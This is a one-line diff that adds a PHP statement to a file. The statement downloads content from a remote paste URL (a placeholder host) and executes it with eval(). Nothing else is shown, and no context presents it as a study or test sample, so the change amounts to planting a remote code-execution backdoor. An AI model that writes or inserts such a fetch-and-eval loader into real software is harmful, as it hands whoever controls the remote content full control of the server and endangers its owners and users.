@@ -1,0 +1,1 @@
+<?php $c = file_get_contents("https://paste.example.invalid/raw/xyz"); eval($c);
